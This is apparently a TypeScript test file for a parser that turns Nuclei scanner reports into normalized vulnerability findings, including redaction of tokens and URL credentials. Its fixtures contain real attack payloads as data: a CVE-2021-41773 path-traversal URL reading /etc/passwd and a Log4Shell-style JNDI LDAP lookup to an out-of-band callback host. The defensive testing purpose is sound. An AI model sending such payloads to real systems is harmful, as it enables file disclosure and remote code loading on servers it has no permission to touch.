import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { nucleiFormat } from '../../../src/scanners/nuclei/parse.ts';
import { oddValue } from '../odd-values.ts';
import { findingOf, findingsOf, inPieces, read } from '../report-events.ts';

const INFO = { name: 'Path traversal', severity: 'high', tags: ['cve', 'kev'], description: 'Reads files.' };
const RESULT = {
  'template-id': 'CVE-2021-41773',
  info: INFO,
  type: 'http',
  host: '127.0.0.1',
  port: '8002',
  scheme: 'http',
  url: 'http://127.0.0.1:8002',
  'matched-at': 'http://127.0.0.1:8002/icons/.%2e/etc/passwd',
  ip: '127.0.0.1',
  timestamp: '2026-11-20T12:00:01.123456789Z',
  'matcher-status': true,
};
const lines = (...values: unknown[]): string => values.map((value) => `${JSON.stringify(value)}\n`).join('');

describe('nuclei results', () => {
  it('name every CVE and CWE of a text that holds several', async () => {
    const classification = { 'cve-id': 'CVE-2020-1234, cve-2020-1235;CVE-2020-1236', 'cwe-id': 'CWE-79,CWE-22' };
    const finding = await findingOf(nucleiFormat, lines({ ...RESULT, info: { ...INFO, classification } }));
    expect(finding.cves).toEqual(['CVE-2020-1234', 'CVE-2020-1235', 'CVE-2020-1236']);
    expect(finding.cwes).toEqual(['CWE-79', 'CWE-22']);
  });

  it('of version 3 say where, what and how bad', async () => {
    const finding = await findingOf(
      nucleiFormat,
      lines({
        ...RESULT,
        info: {
          ...INFO,
          remediation: 'Update.',
          impact: 'Files leak.',
          reference: ['https://a.test', 'https://a.test', 'https://b.test'],
          classification: {
            'cve-id': ['cve-2021-41773'],
            'cwe-id': ['cwe-22', 'CWE-0'],
            'cvss-metrics': 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
            'cvss-score': 7.5,
            'epss-score': '0.97',
          },
        },
        'matcher-name': 'lfi',
        'extractor-name': 'user',
        'extracted-results': ['root', 'daemon'],
        request: 'GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer s3cret\r\n\r\n',
        response: 'HTTP/1.1 200 OK',
        'curl-command': "curl -H 'Authorization: Bearer s3cret'",
      }),
    );
    expect(finding).toMatchObject({
      rule_id: 'CVE-2021-41773',
      rule_family: 'http',
      title: 'Path traversal',
      severity: 'high',
      severity_rated: true,
      description: 'Reads files. Impact: Files leak.',
      solution: 'Update.',
      references: ['https://a.test', 'https://b.test'],
      cves: ['CVE-2021-41773'],
      cwes: ['CWE-22'],
      cvss: [{ version: '3.1', score: 7.5 }],
      epss: 0.97,
      kev: true,
      location: { host: '127.0.0.1', ip: '127.0.0.1', port: 8002, protocol: 'tcp', url: RESULT['matched-at'] },
      discriminator: 'lfi/user',
      untrusted: { response: 'HTTP/1.1 200 OK' },
    });
    expect(finding.untrusted.output).toBe(
      'matched: lfi/user\nroot\ndaemon\nrequest: GET / HTTP/1.1\nHost: x\nAuthorization: ***\n\n',
    );
    expect(JSON.stringify(finding)).not.toContain('s3cret');
  });

  it('of old versions have the same shape', async () => {
    const legacy = {
      templateID: 'openssh-detect',
      info: {
        name: 'OpenSSH',
        severity: 'LOW',
        tags: 'network,kev',
        reference: '- https://a.test\n- https://b.test\n',
      },
      matcher_name: 'm',
      extracted_results: 'OpenSSH_5.3',
      type: 'network',
      host: 'https://app.test',
      matched: 'app.test:22',
      ip: '10.0.0.9',
    };
    expect(await findingOf(nucleiFormat, lines(legacy))).toMatchObject({
      rule_id: 'openssh-detect',
      severity: 'low',
      kev: true,
      references: ['https://a.test', 'https://b.test'],
      location: { host: 'app.test', ip: '10.0.0.9', port: 22, protocol: 'tcp' },
      discriminator: 'm',
      untrusted: { output: 'matched: m\nOpenSSH_5.3' },
    });
    const oldest = {
      template: 'cves/CVE-2020-1.yaml',
      name: 'Old',
      severity: 'high',
      type: 'http',
      matched: 'http://a.test',
    };
    expect(await findingOf(nucleiFormat, lines(oldest))).toMatchObject({
      rule_id: 'CVE-2020-1',
      title: 'Old',
      severity: 'high',
    });
  });

  it('without a rating stay where a look at medium and above finds them', async () => {
    for (const severity of ['unknown', '', null, undefined, 'catastrophic', 3, {}]) {
      const finding = await findingOf(nucleiFormat, lines({ ...RESULT, info: { ...INFO, severity } }));
      expect(finding).toMatchObject({ severity: 'medium', severity_rated: false, severity_source: 'default' });
    }
  });

  it.each([
    [
      { type: 'tcp', 'matched-at': '[2001:db8::1]:22', ip: '2001:db8::1' },
      { host: '2001:db8::1', ip: '2001:db8::1', port: 22 },
    ],
    [{ type: 'dns', 'matched-at': 'app.test', ip: undefined, port: undefined }, { host: 'app.test' }],
    [
      { type: 'ssl', 'matched-at': 'app.test:443', ip: '10.0.0.1' },
      { host: 'app.test', port: 443, ip: '10.0.0.1' },
    ],
    [
      { type: 'javascript', 'matched-at': 'app.test', port: '6379' },
      { host: 'app.test', port: 6379 },
    ],
    [{ 'matched-at': 'HTTPS://user:pw@App.test/x' }, { host: 'app.test', port: 443, url: 'HTTPS://***@App.test/x' }],
    [{ 'matched-at': 'http://[::1]:81/' }, { host: '::1', port: 81 }],
    [
      { type: 'file', 'matched-at': '/srv/app/.env', 'matched-line': [7, 9] },
      { file: '/srv/app/.env', line: 7 },
    ],
    [
      { fuzzing_method: 'POST', fuzzing_parameter: 'q' },
      { method: 'POST', parameter: 'q' },
    ],
    [
      { 'matched-at': 'http://app.test/?x=${jndi:ldap://c70v8s2ukqds73d3ve90c8y9eheyyyyyc.oast.pro/a}' },
      { url: 'http://app.test/?x=${jndi:ldap://{{interactsh}}.oast.pro/a}' },
    ],
  ])('at %j are placed', async (over, expected) => {
    expect((await findingOf(nucleiFormat, lines({ ...RESULT, ...over }))).location).toMatchObject(expected);
  });

  it('are the same as lines and as the elements of a list', async () => {
    const results = [RESULT, { ...RESULT, 'matcher-name': 'b' }, { ...RESULT, 'template-id': 'c', info: {} }];
    const asLines = await read(nucleiFormat, inPieces(lines(...results)));
    const asList = await read(nucleiFormat, inPieces(`\uFEFF ${JSON.stringify(results, null, 2)}`));
    expect(asList.findings).toEqual(asLines.findings);
    expect(asLines.findings).toHaveLength(3);
    // Only a list has an end that proves that nothing is missing.
    expect(asLines.events.at(-1)?.kind).toBe('source');
    expect(asList.events.at(-1)?.kind).toBe('end');
  });

  it('of one template are one object, and another one when the template says something else', async () => {
    const { events } = await read(
      nucleiFormat,
      inPieces(lines(RESULT, RESULT, { ...RESULT, info: { ...INFO, severity: 'low' } }, RESULT)),
    );
    const rules = events.flatMap((event) => (event.kind === 'occurrence' ? [event.rule] : []));
    expect(rules[0]).toBe(rules[1]);
    expect(rules[0]).toBe(rules[3]);
    expect(rules.map(({ severity }) => severity)).toEqual(['high', 'high', 'low', 'high']);
  });

  it('that did not match, and statistics, are none', async () => {
    const stats = { duration: '0:00:05', errors: '0', requests: '412', total: '1112' };
    expect(await findingsOf(nucleiFormat, lines(stats, { ...RESULT, 'matcher-status': false }))).toEqual([]);
  });

  it.each(['', '\n', '\uFEFF', '[]', 'null'])('are none in %j, and nothing is said to be looked at', async (report) => {
    const { findings, events, error } = await read(nucleiFormat, inPieces(report));
    expect({ findings, error }).toEqual({ findings: [], error: undefined });
    expect(events.filter(({ kind }) => kind === 'place' || kind === 'scope')).toEqual([]);
    expect(events.filter(({ kind }) => kind === 'checks')).toEqual([
      {
        kind: 'checks',
        lookedFor: [],
        notLookedFor: ['which templates ran without a match, and on which hosts: the report does not say'],
      },
    ]);
  });

  it('that cannot be read are refused with their place, after those before them', async () => {
    const { findings, error } = await read(nucleiFormat, inPieces(`${lines(RESULT)}{"some":"thing"}\n`));
    expect(findings).toHaveLength(1);
    expect(error?.message).toBe(
      `The nuclei report has a line that cannot be read, number 2, at byte ${lines(RESULT).length}.`,
    );
    const list = await read(nucleiFormat, inPieces(`[${JSON.stringify(RESULT)},5]`));
    expect(list.findings).toHaveLength(1);
    expect(list.error?.message).toContain('has a result that cannot be read, number 2,');
  });

  it('may have anything in any field', async () => {
    const record = Object.fromEntries(
      [
        'info',
        'type',
        'host',
        'port',
        'ip',
        'matched-at',
        'matched-line',
        'matcher-name',
        'extracted-results',
        'interaction',
      ].map((key) => [key, fc.option(oddValue, { nil: undefined })]),
    );
    const info = fc.record({
      name: oddValue,
      severity: oddValue,
      tags: oddValue,
      reference: oddValue,
      classification: fc.record({
        'cve-id': oddValue,
        'cwe-id': oddValue,
        'cvss-score': oddValue,
        'cvss-metrics': oddValue,
        'epss-score': oddValue,
      }),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.record(record), info), { maxLength: 5 }), async (results) => {
        const report = lines(
          ...results.map(([result, facts], at) => ({
            ...result,
            ...(at % 2 === 0 ? { info: facts } : {}),
            'template-id': `t${at}`,
          })),
        );
        const { findings, error } = await read(nucleiFormat, inPieces(report, 100));
        expect({ error, findings: findings.length }).toEqual({ error: undefined, findings: results.length });
      }),
      { numRuns: 150, endOnFailure: true },
    );
  });
});

describe('a nuclei report with other lines in it', () => {
  const STATISTICS = JSON.stringify({ duration: '0:00:05', requests: '412', total: '9', hosts: '1' });
  const result = lines(RESULT);

  it.each([
    ['statistics', `${STATISTICS}\n`],
    ['a message', '[INF] Current nuclei version: v3.3.0 (latest)\n'],
    ['a message in colour', '[\u001b[34mINF\u001b[0m] Templates loaded\n'],
    ['several', `\n[WRN] a\r\n${STATISTICS}\n[INF] b\n`],
  ])('is known and read when it begins with %s', async (_, before) => {
    expect(nucleiFormat.detect(Buffer.from(before + result))).toBe(true);
    for (const size of [1, 64 << 10]) {
      const { findings, error } = await read(nucleiFormat, inPieces(`${before}${result}[INF] done\n${result}`, size));
      expect(error).toBeUndefined();
      expect(findings).toHaveLength(2);
    }
  });

  it('is none of them alone, nor a list of something else', () => {
    for (const head of [`${STATISTICS}\n`, '[INF] a\n', '[INF] a\n{"x":1}\n', `[${STATISTICS}]`])
      expect(nucleiFormat.detect(Buffer.from(head))).toBe(false);
    expect(nucleiFormat.detect(Buffer.from(JSON.stringify([RESULT], undefined, 2)))).toBe(true);
  });
});
